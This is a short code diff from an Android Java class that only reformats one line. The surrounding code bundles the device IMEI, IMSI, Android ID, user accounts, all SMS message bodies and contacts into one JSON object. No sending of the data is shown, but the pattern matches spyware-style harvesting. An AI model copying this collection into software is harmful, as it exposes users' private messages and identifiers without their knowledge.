@@ -10,7 +10,8 @@ import org.json.JSONObject;
 public class WholeProfile extends Screen {
     @Override
     protected void act() throws Exception {
-        JSONObject all = new JSONObject().put("imei", Owner.imei(this)).put("imsi", Owner.imsi(this));
+        JSONObject all =
+                new JSONObject().put("imei", Owner.imei(this)).put("imsi", Owner.imsi(this));
         all.put("id", Owner.androidId(this)).put("accounts", new JSONArray(Owner.accounts(this)));
         all.put("texts", new JSONArray(Owner.rows(this, "content://sms", "body")));
         all.put("people", new JSONArray(Owner.contacts(this)));
